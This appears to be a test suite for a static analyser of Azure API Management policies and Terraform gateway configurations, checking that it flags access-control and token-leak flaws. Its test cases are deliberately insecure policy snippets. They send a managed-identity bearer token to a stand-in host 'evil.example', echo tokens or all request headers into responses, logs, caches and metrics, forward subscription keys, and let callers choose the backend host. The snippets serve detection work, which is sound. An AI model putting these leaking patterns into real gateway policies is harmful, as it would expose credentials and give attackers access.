# ruff: noqa: E501 - policies and expressions stand here as they are written
"""Policies: where the token goes, what gives it away, and what proves who calls."""

from __future__ import annotations

import time

import pytest

from constructs_lib.access import analyse, read_stacks
from tests.access.kinds import API, BACKEND, GATEWAY, POLICY, RESOURCE, Case, inbound, outbound
from tests.access.samples import AUDIENCE, CLIENT, Document, chain, policy

EVIL = "evil.example"
TO_VARIABLE = (
    f'<authentication-managed-identity resource="{AUDIENCE}" client-id="{CLIENT}" '
    'output-token-variable-name="t" />'
)
WITH_TOKEN = (
    '<set-header name="Authorization" exists-action="override">'
    '<value>@("Bearer " + (string)context.Variables["t"])</value></set-header>'
)
HEADER = 'context.Request.Headers.GetValueOrDefault("X-To","")'
OPEN = {f"{API}.subscription_required": False}
PRODUCT = f"resource.{GATEWAY}_product.p"
IN_GATEWAY = {"api_management_name": f"${{{GATEWAY}.gateway.name}}", "resource_group_name": "rg"}


WITHOUT_KEY = {"gateway-without-key": "unknown"}
CLI = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
TOKEN = '(string)context.Variables["t"]'
KEY = "@(context.Subscription.Key)"
SECRET_HEADER = (
    '<check-header name="X-Key" failed-check-httpcode="401" failed-check-error-message="no" '
    'ignore-case="false"><value>secret</value></check-header>'
)


def answered_by_request() -> str:
    """A policy that calls the function in a request of its own, and answers with what it got."""
    token = f'<authentication-managed-identity resource="{AUDIENCE}" client-id="{CLIENT}" />'
    request = (
        '<send-request mode="new" response-variable-name="r">'
        "<set-url>https://func-orders.azurewebsites.net/api/x</set-url>"
        f"<set-method>GET</set-method>{token}</send-request>"
        '<return-response response-variable-name="r" />'
    )
    return policy().replace(token, request)


def linked_product(document: Document) -> None:
    service = "Microsoft.ApiManagement/service"
    document["resource"]["azapi_resource"] = {
        "product": {
            "type": f"{service}/products@2024-05-01",
            "name": "open",
            "parent_id": f"${{{GATEWAY}.gateway.id}}",
            "body": {"properties": {"displayName": "Open", "subscriptionRequired": False}},
        },
        "link": {
            "type": f"{service}/products/apiLinks@2024-05-01",
            "name": "orders",
            "parent_id": "${azapi_resource.product.id}",
            "body": {"properties": {"apiId": f"${{{GATEWAY}_api.orders.id}}"}},
        },
    }


def base_url(expression: str) -> dict[str, str]:
    """The host by an expression, with its quotes as XML wants them."""
    backend = '<set-backend-service backend-id="${azurerm_api_management_backend.orders.name}" />'
    quoted = expression.replace('"', "&quot;")
    return {POLICY: policy().replace(backend, f'<set-backend-service base-url="{quoted}" />')}


def sent_to(url: str) -> dict[str, str]:
    request = (
        f'<send-request mode="new" response-variable-name="r"><set-url>{url}</set-url>'
        f"<set-method>GET</set-method>{WITH_TOKEN}</send-request>"
    )
    return {POLICY: inbound(TO_VARIABLE, request, after=False)}


def given_away(statement: str, *, after: bool = True) -> dict[str, str]:
    text = outbound(statement) if after else inbound(statement)
    return {POLICY: text.replace("<inbound><base />", f"<inbound><base />{TO_VARIABLE}", 1)}


def echo(expression: str) -> dict[str, str]:
    return given_away(f"<set-body>{expression}</set-body>")


def to_backend(expression: str) -> dict[str, str]:
    return {POLICY: inbound(f'<set-header name="X-Y"><value>{expression}</value></set-header>')}


def checked(statement: str) -> dict[str, object]:
    return {**OPEN, POLICY: inbound(statement, after=False)}


def jwt(url: str, inner: str = "") -> str:
    return (
        '<validate-jwt header-name="Authorization">'
        f'<openid-config url="https://login.microsoftonline.com/{url}/v2.0/.well-known/'
        f'openid-configuration" />{inner}</validate-jwt>'
    )


def refused(condition: str) -> str:
    quoted = condition.replace('"', "&quot;").replace("&&", "&amp;&amp;")
    return (
        f'<choose><when condition="@({quoted})"><return-response><set-status code="403" '
        'reason="no" /></return-response></when></choose>'
    )


def host(value: str) -> dict[str, str]:
    header = f'<set-header name="Host" exists-action="override"><value>{value}</value></set-header>'
    return {POLICY: inbound(header)}


TENANT_ID = "11111111-2222-4333-8444-555555555555"
AUDIENCES = "<audiences><audience>api://orders</audience></audiences>"
CACHE = '<cache-lookup vary-by-developer="false" allow-private-response-caching="true" />'
CERTIFICATE = "context.Request.Certificate"
NO_KEY = {"gateway-without-key": "open"}
PROVEN = {"gateway-without-key": "closed"}
DOUBTED = {"gateway-without-key": "unknown"}
ANSWERED = (
    '<policies><inbound><base /><return-response><set-status code="200" reason="OK" />'
    "</return-response></inbound><backend><base /></backend><outbound><base /></outbound>"
    "<on-error><base /></on-error></policies>"
)


def operations(*answered: str) -> dict[str, object]:
    changes: dict[str, object] = {}
    for name in ("get", "list"):
        here = {**IN_GATEWAY, "api_name": f"${{{GATEWAY}_api.orders.name}}", "operation_id": name}
        changes[f"resource.{GATEWAY}_api_operation.{name}"] = {
            **here,
            "display_name": name,
            "method": "GET",
            "url_template": f"/{name}",
        }
        if name in answered:
            changes[f"resource.{GATEWAY}_api_operation_policy.{name}"] = {
                **here,
                "xml_content": ANSWERED,
            }
    return changes


def imported(server: str, form: str = "openapi+json") -> dict[str, object]:
    backend = '<set-backend-service backend-id="${azurerm_api_management_backend.orders.name}" />'
    return {
        POLICY: policy().replace(backend, ""),
        f"{API}.import": {"content_format": form, "content_value": server},
    }


def product(**arguments: object) -> dict[str, object]:
    return {
        PRODUCT: {**IN_GATEWAY, "product_id": "p", "published": True, **arguments},
        f"resource.{GATEWAY}_product_api.p": {
            **IN_GATEWAY,
            "product_id": f"${{{GATEWAY}_product.p.product_id}}",
            "api_name": f"${{{GATEWAY}_api.orders.name}}",
        },
        f"resource.{GATEWAY}_product_group.p": {
            **IN_GATEWAY,
            "product_id": f"${{{GATEWAY}_product.p.product_id}}",
            "group_name": "developers",
        },
    }


SIGN_UP = {f"resource.{GATEWAY}.gateway.sign_up": {"enabled": True}}

CASES = [
    # The caller names the host
    Case("the caller names the host in a header", "SF319", base_url(f"@({HEADER})")),
    Case(
        "as the default of an expression it is ours only without the header",
        "error",
        base_url(
            '@(context.Request.Headers.GetValueOrDefault("X","https://func-orders'
            '.azurewebsites.net"))'
        ),
    ),
    Case("behind a scheme", "SF319", base_url(f'@("https://" + {HEADER} + "/api")')),
    Case(
        "in a query parameter",
        "SF319",
        base_url('@("https://" + context.Request.Url.Query.GetValueOrDefault("h", ""))'),
    ),
    Case(
        "in the body",
        "SF319",
        base_url('@((string)context.Request.Body.As<JObject>()["host"])'),
    ),
    Case(
        "through a variable",
        "SF319",
        {
            POLICY: base_url('@((string)context.Variables["h"])')[POLICY].replace(
                "<inbound><base />",
                '<inbound><base /><set-variable name="h" value="@('
                + HEADER.replace('"', "&quot;")
                + ')" />',
            )
        },
    ),
    Case(
        "in one branch of two",
        "SF319",
        {
            POLICY: policy().replace(
                '<set-header name="Ocp',
                '<choose><when condition="@(true)"><set-backend-service backend-id="'
                '${azurerm_api_management_backend.orders.name}" /></when></choose>'
                '<set-header name="Host"><value>@('
                + HEADER
                + ')</value></set-header><set-header name="Ocp',
                1,
            )
        },
    ),
    Case(
        "a path that the caller names is no host",
        "no error",
        base_url(f'@("https://func-orders.azurewebsites.net/" + {HEADER})'),
        {"gateway": "open/unknown"},
    ),
    Case("the Host header of the caller", "SF319", host(f"@({HEADER})")),
    Case("a Host header of another app", "SF310", host("func-other.azurewebsites.net")),
    Case("a Host header of the app is ours", "clean", host("func-orders.azurewebsites.net")),
    Case(
        "a Host header that is known later",
        "told",
        host("${var.host}"),
        {"gateway": "unknown"},
    ),
    # Requests besides
    Case("a request with the token to the caller's host", "SF319", sent_to(f"@({HEADER})")),
    Case(
        "to a host within an expression",
        "SF310",
        sent_to(f'@("https://{EVIL}/" + context.RequestId)'),
    ),
    Case("to an interpolated one", "SF310", sent_to(f'@($"https://{EVIL}/{{context.RequestId}}")')),
    Case("to a formatted one", "SF310", sent_to(f'@(string.Format("https://{EVIL}/{{0}}", "x"))')),
    Case("to the app itself", "clean", sent_to("https://func-orders.azurewebsites.net/x")),
    Case(
        "to one of two hosts",
        "SF310",
        sent_to(f'@(context.Request.Method == "GET" ? "https://a.example" : "https://{EVIL}")'),
    ),
    # Given away
    Case(
        "TryGetValue",
        "SF317",
        echo('@{ object o; context.Variables.TryGetValue("t", out o); return (string)o; }'),
    ),
    Case(
        "a variable in place",
        "SF317",
        echo(
            '@{ if (context.Variables.TryGetValue("t", out var o)) { return (string)o; } return ""; }'
        ),
    ),
    Case("all variables", "SF317", echo("@(JsonConvert.SerializeObject(context.Variables))")),
    Case(
        "encoded",
        "SF317",
        echo('@(Convert.ToBase64String(Encoding.UTF8.GetBytes((string)context.Variables["t"])))'),
    ),
    Case(
        "an echo of all headers",
        "SF317",
        echo(
            '@(string.Join(";", context.Request.Headers.Select(h => h.Key + string.Join(",", h.Value))))'
        ),
    ),
    Case(
        "in a loop",
        "SF317",
        echo(
            '@{ var s = ""; foreach (var h in context.Request.Headers) { s += h.Value[0]; } return s; }'
        ),
    ),
    Case(
        "in a query",
        "SF317",
        echo('@(string.Join("", from h in context.Request.Headers select h.Value))'),
    ),
    Case(
        "in an object",
        "SF317",
        echo(
            '@(new JObject(new JProperty("a", context.Request.Headers["Authorization"])).ToString())'
        ),
    ),
    Case(
        "as a dimension of a metric",
        "SF317",
        given_away(
            '<emit-metric name="m"><dimension name="t" value="@((string)context.Variables[&quot;t&quot;])" /></emit-metric>'
        ),
    ),
    Case(
        "into a cache",
        "SF317",
        given_away(
            '<cache-store-value key="t" value="@((string)context.Variables[&quot;t&quot;])" duration="9" />'
        ),
    ),
    Case(
        "into the traces",
        "SF317",
        given_away(
            '<trace source="x"><message>@((string)context.Variables["t"])</message></trace>',
            after=False,
        ),
    ),
    Case(
        "beside something that is read out of another token",
        "SF317",
        echo(
            '@(context.Request.Headers.GetValueOrDefault("Authorization","") + context.Request.Headers.GetValueOrDefault("X","").AsJwt()?.Id)'
        ),
    ),
    Case(
        "beside a comment that names AsJwt",
        "SF317",
        echo('@(/* .AsJwt() */ context.Request.Headers.GetValueOrDefault("Authorization",""))'),
    ),
    Case(
        "claims of a token are not the token",
        "clean",
        echo('@(context.Request.Headers.GetValueOrDefault("Authorization","").AsJwt()?.Subject)'),
    ),
    Case(
        "whether there is one is not either",
        "clean",
        echo('@(context.Request.Headers.ContainsKey("Authorization").ToString())'),
    ),
    Case(
        "nor is its length",
        "clean",
        echo('@(context.Request.Headers.GetValueOrDefault("Authorization","").Length.ToString())'),
    ),
    # The subscription key
    Case("the key of the subscription", "SF312", to_backend("@(context.Subscription.Key)")),
    Case("where there is one", "SF312", to_backend("@(context.Subscription?.Key)")),
    Case("the second one", "SF312", to_backend("@(context.Subscription.SecondaryKey)")),
    Case("within the address", "SF312", to_backend("@(context.Request.OriginalUrl.ToString())")),
    Case("the subscription's name is no key", "clean", to_backend("@(context.Subscription.Name)")),
    # What the token is for
    Case(
        "the caller says what the token is for",
        "SF320",
        {POLICY: policy(resource="@(" + HEADER.replace('"', "&quot;") + ")")},
    ),
    Case(
        "in a query parameter",
        "SF320",
        {POLICY: policy(resource="@(context.Request.Url.Query.GetValueOrDefault(&quot;r&quot;))")},
    ),
    Case(
        "behind a prefix",
        "error",
        {POLICY: policy(resource="@(&quot;api://&quot; + " + HEADER.replace('"', "&quot;") + ")")},
    ),
    Case(
        "an expression that does not parse is not known",
        "told",
        {POLICY: policy(resource="@(context.[)")},
    ),
    # Headers with computed names
    Case(
        "a header whose name is an expression may be the token's",
        "told",
        {POLICY: inbound(f"<set-header name='@({HEADER})'><value>x</value></set-header>")},
        {"gateway": "unknown"},
    ),
    Case(
        "deleted as well",
        "told",
        {POLICY: inbound(f"<set-header name='@({HEADER})' exists-action='delete' />")},
    ),
    Case(
        "an expression that does not parse may replace the token",
        "told",
        {POLICY: inbound('<set-header name="Authorization"><value>@(a b c)</value></set-header>')},
    ),
    # URLs
    Case(
        "user info is no host",
        "SF310",
        {f"{BACKEND}.url": f"https://func-orders.azurewebsites.net:x@{EVIL}/api"},
    ),
    Case(
        "user info before ours",
        "told",
        {f"{BACKEND}.url": "https://x@func-orders.azurewebsites.net/api"},
    ),
    Case(
        "another port", "told", {f"{BACKEND}.url": "https://func-orders.azurewebsites.net:8443/api"}
    ),
    Case("a final dot", "told", {f"{BACKEND}.url": "https://func-orders.azurewebsites.net./api"}),
    Case(
        "a longer host",
        "SF310",
        {f"{BACKEND}.url": f"https://func-orders.azurewebsites.net.{EVIL}/api"},
    ),
    Case(
        "a host in the path",
        "SF310",
        {f"{BACKEND}.url": f"https://{EVIL}/func-orders.azurewebsites.net"},
    ),
    Case(
        "the port of HTTPS is the same",
        "clean",
        {f"{BACKEND}.url": "https://func-orders.azurewebsites.net:443/api"},
    ),
    Case(
        "a function around the host makes another",
        "told",
        {
            f"{BACKEND}.url": '${replace("https://${azurerm_linux_function_app.orders.default_hostname}/api", "net", "org")}'
        },
        {"gateway": "unknown"},
    ),
    Case(
        "within a template as well",
        "told",
        {
            f"{BACKEND}.url": 'https://${replace(azurerm_linux_function_app.orders.default_hostname, "a", "b")}/api'
        },
    ),
    Case(
        "an index of a split is not followed",
        "told",
        {
            f"{BACKEND}.url": 'https://${split(".", azurerm_linux_function_app.orders.default_hostname)[0]}.evil.example/api'
        },
    ),
    Case(
        "a name with a random end is the app's host",
        "no error",
        {
            f"{RESOURCE}.name": "func-${random_string.r.result}",
            "resource.random_string.r": {"length": 6},
            f"{BACKEND}.url": "https://${azurerm_linux_function_app.orders.name}.azurewebsites.net/api",
        },
        {"gateway": "open"},
    ),
    Case(
        "the same text twice is the same host",
        "no error",
        {
            f"{RESOURCE}.name": "func-${random_string.r.result}",
            "resource.random_string.r": {"length": 6},
            f"{BACKEND}.url": "https://func-${random_string.r.result}.azurewebsites.net/api",
        },
        {"gateway": "open"},
    ),
    Case(
        "another region's host is another app",
        "SF310",
        {f"{BACKEND}.url": "https://func-orders-a6gqaeashthkhkeu.eastus-01.azurewebsites.net/api"},
    ),
    Case(
        "an App Service Environment has hosts of its own",
        "no error",
        {f"{BACKEND}.url": "https://func-orders.ase-one.appserviceenvironment.net/api"},
    ),
    Case(
        "another app's there is another",
        "SF310",
        {f"{BACKEND}.url": "https://func-other.ase-one.appserviceenvironment.net/api"},
    ),
    # Imports
    Case(
        "an imported document's server is the backend",
        "SF310",
        imported('{"openapi": "3.0.1", "servers": [{"url": "https://evil.example/api"}]}'),
    ),
    Case(
        "in YAML too",
        "SF310",
        imported("openapi: 3.0.1\nservers:\n  - url: https://evil.example/api\n", "openapi"),
    ),
    Case(
        "of version 2 as well",
        "SF310",
        imported(
            '{"swagger": "2.0", "host": "evil.example", "schemes": ["https"]}', "swagger-json"
        ),
    ),
    Case(
        "behind a link it is not known", "told", imported("https://x/openapi.json", "openapi-link")
    ),
    Case(
        "the app's own is right",
        "clean",
        imported(
            '{"openapi": "3.0.1", "servers": [{"url": "https://func-orders.azurewebsites.net/api"}]}'
        ),
    ),
    # Proxies
    Case(
        "a backend behind a proxy",
        "told",
        {f"{BACKEND}.proxy": {"url": "http://proxy.example:8080"}},
    ),
    Case(
        "a policy with one", "SF321", {POLICY: inbound('<proxy url="http://proxy.example:8080" />')}
    ),
    Case(
        "inherited from the global policy",
        "SF321",
        {
            f"resource.{GATEWAY}_policy.g": {
                "api_management_id": f"${{{GATEWAY}.gateway.id}}",
                "xml_content": '<policies><inbound><proxy url="http://p.example" /></inbound><backend><forward-request /></backend><outbound /><on-error /></policies>',
            }
        },
    ),
    # Operations that answer
    Case("one operation answers by itself", "no error", operations("list"), {"gateway": "open"}),
    Case("all of them do", "SF309", operations("list", "get")),
    Case("none of them does", "clean", operations()),
    # Proof of the caller
    Case("no key and no proof", "SF501", OPEN, NO_KEY),
    Case(
        "any token of any tenant proves nothing", "warning", checked(jwt("organizations")), NO_KEY
    ),
    Case("of any directory or account", "SF501", checked(jwt("common")), NO_KEY),
    Case("of anybody's own account", "SF501", checked(jwt("consumers")), NO_KEY),
    Case(
        "of an issuer that anybody has an account of",
        "SF501",
        checked(jwt("x").replace("login.microsoftonline.com", "accounts.google.com")),
        NO_KEY,
    ),
    Case("a tenant's proves that it is the tenant's", "no error", checked(jwt(TENANT_ID)), PROVEN),
    Case("an audience proves something", "no error", checked(jwt("common", AUDIENCES)), PROVEN),
    Case(
        "any tenant in another policy",
        "SF501",
        checked(
            '<validate-azure-ad-token tenant-id="common"><audiences><audience>x</audience></audiences></validate-azure-ad-token>'
        ),
        NO_KEY,
    ),
    Case("a cache before the check", "told", checked(CACHE + jwt(TENANT_ID)), DOUBTED),
    Case(
        "before a check of addresses too",
        "SF505",
        checked(CACHE + '<ip-filter action="allow"><address>203.0.113.7</address></ip-filter>'),
        DOUBTED,
    ),
    Case("after the check it is fine", "no error", checked(jwt(TENANT_ID) + CACHE), PROVEN),
    Case(
        "named addresses only",
        "no error",
        checked('<ip-filter action="allow"><address>203.0.113.7</address></ip-filter>'),
        PROVEN,
    ),
    Case(
        "all addresses are no proof",
        "SF501",
        checked(
            '<ip-filter action="allow"><address-range from="0.0.0.0" to="255.255.255.255" /></ip-filter>'
        ),
        NO_KEY,
    ),
    Case(
        "forbidden addresses are none either",
        "SF501",
        checked('<ip-filter action="forbid"><address>203.0.113.7</address></ip-filter>'),
        NO_KEY,
    ),
    Case(
        "a certificate that an expression checks",
        "no error",
        checked(refused(f'{CERTIFICATE} == null || {CERTIFICATE}.Thumbprint != "AB"')),
        DOUBTED,
    ),
    Case(
        "any certificate proves nothing",
        "SF501",
        checked(refused(f"{CERTIFICATE} == null")),
        NO_KEY,
    ),
    Case(
        "a header that is compared may be a secret",
        "no error",
        checked(refused(f'{HEADER} != "s3"')),
        DOUBTED,
    ),
    Case(
        "a method proves nothing",
        "SF501",
        checked(refused('context.Request.Method == "OPTIONS"')),
        NO_KEY,
    ),
    Case(
        "any client certificate in a policy is doubtful",
        "no error",
        checked("<validate-client-certificate />"),
        DOUBTED,
    ),
    # Products and sign-up
    Case(
        "a product that is elsewhere may demand no key",
        "told",
        {
            f"resource.{GATEWAY}_product_api.p": {
                **IN_GATEWAY,
                "product_id": "partner",
                "api_name": f"${{{GATEWAY}_api.orders.name}}",
            }
        },
        {"gateway-without-key": "open/unknown"},
    ),
    Case(
        "one that demands none lets everybody in",
        "SF501",
        product(subscription_required=False),
        NO_KEY,
    ),
    Case("one that is known later may", "told", product(subscription_required="${var.s}"), DOUBTED),
    Case("one that demands a key is fine", "clean", product(approval_required=True), PROVEN),
    Case("whoever signs up gets a key", "told", {**product(approval_required=False), **SIGN_UP}),
    Case("without a word of approval too", "SF503", {**product(), **SIGN_UP}),
    Case(
        "whoever has an account of somebody else's signs up too",
        "SF503",
        {
            **product(),
            f"resource.{GATEWAY}_identity_provider_google.g": {**IN_GATEWAY, "client_id": "x"},
        },
    ),
    Case(
        "whether people sign up may be known later",
        "SF503",
        {**product(), f"resource.{GATEWAY}.gateway.sign_up": {"enabled": "${var.s}"}},
    ),
    Case("with approval nobody does", "clean", {**product(approval_required=True), **SIGN_UP}),
    Case("without sign-up nobody does", "clean", product(approval_required=False)),
    # What may prove who calls
    Case("a header with a secret may", "no error", checked(SECRET_HEADER), WITHOUT_KEY),
    *(
        Case(
            f"so may {what}",
            "no error",
            checked(refused(f"context.{what} == null")),
            WITHOUT_KEY,
        )
        for what in ("User", "Product", "Subscription")
    ),
    Case(
        "clients of every tenant prove little",
        "SF901",
        checked(
            '<validate-azure-ad-token tenant-id="common"><client-application-ids>'
            f"<application-id>{CLI}</application-id></client-application-ids>"
            "</validate-azure-ad-token>"
        ),
        WITHOUT_KEY,
    ),
    Case(
        "a product that azapi links demands no key",
        "SF501",
        linked_product,
        {"gateway-without-key": "open"},
    ),
    # Requests that a policy makes by itself
    Case(
        "a request of the policy's own reaches the function with the token",
        "clean",
        {POLICY: answered_by_request()},
        {"gateway": "open", "gateway-without-key": "closed"},
    ),
    Case(
        "without a key as well, before anything is checked",
        "SF901",
        {**OPEN, POLICY: answered_by_request().replace("</inbound>", f"{jwt('x')}</inbound>")},
        WITHOUT_KEY,
    ),
    Case(
        "Dapr sends a request to whom nobody knows",
        "SF901",
        {
            POLICY: policy().replace(
                'backend-id="${azurerm_api_management_backend.orders.name}"',
                'backend-id="dapr" dapr-app-id="orders"',
            )
        },
        {"gateway": "unknown"},
    ),
    # What variables and functions of an expression carry
    Case(
        "a function in a variable carries the token",
        "SF317",
        echo(f"@{{ Func<string> f = () => {TOKEN}; return f(); }}".replace("<", "&lt;")),
    ),
    Case(
        "so does what was appended to a text",
        "SF317",
        echo(f"@{{ var s = new StringBuilder(); s.Append({TOKEN}); return s.ToString(); }}"),
    ),
    Case(
        "and an entry that was added to a list",
        "SF317",
        echo(f"@{{ var s = new JArray(); s.Add({TOKEN}); return s.ToString(); }}"),
    ),
    Case(
        "Liquid reads headers too",
        "SF317",
        {
            POLICY: outbound(
                '<set-body template="liquid">{{context.Request.Headers.Authorization}}</set-body>'
            )
        },
    ),
    # The key elsewhere than in its header
    *(
        Case(f"the key is forwarded in {where}", "SF312", {POLICY: inbound(statement)})
        for where, statement in (
            ("the body", f"<set-body>{KEY}</set-body>"),
            ("the address", f"<rewrite-uri template='{KEY}' />"),
            (
                "another query parameter",
                f'<set-query-parameter name="k"><value>{KEY}</value></set-query-parameter>',
            ),
        )
    ),
    Case(
        "what is deleted afterwards is not forwarded",
        "clean",
        {POLICY: inbound("<rewrite-uri template='@(context.Request.Url.QueryString)' />")},
    ),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_it_is(case: Case) -> None:
    case.check()


def fragments(levels: int, width: int) -> Document:
    document = chain()
    made = document["resource"][f"{GATEWAY}_policy_fragment"] = {}
    for level in range(levels + 1):
        include = f'<include-fragment fragment-id="f{level + 1}" />' * width
        made[f"f{level}"] = {
            "api_management_id": f"${{{GATEWAY}.gateway.id}}",
            "name": f"f{level}",
            "value": f"<fragment>{include if level < levels else ''}</fragment>",
        }
    text = inbound('<include-fragment fragment-id="f0" />', after=False)
    document["resource"][f"{GATEWAY}_api_policy"]["orders"]["xml_content"] = text
    return document


@pytest.mark.parametrize(("levels", "width"), [(8, 8), (3, 40), (20, 2)])
def test_the_widest_fragments_take_no_time(levels: int, width: int) -> None:
    document = fragments(levels, width)
    begun = time.process_time()
    analysis = analyse(read_stacks({"stack": document}))
    assert time.process_time() - begun < 2
    assert analysis.findings == ()


def test_a_fragment_that_includes_itself_ends() -> None:
    document = fragments(1, 1)
    made = document["resource"][f"{GATEWAY}_policy_fragment"]["f1"]
    made["value"] = '<fragment><include-fragment fragment-id="f0" /></fragment>'
    assert {each.rule for each in analyse(read_stacks({"stack": document})).findings} == {"SF901"}
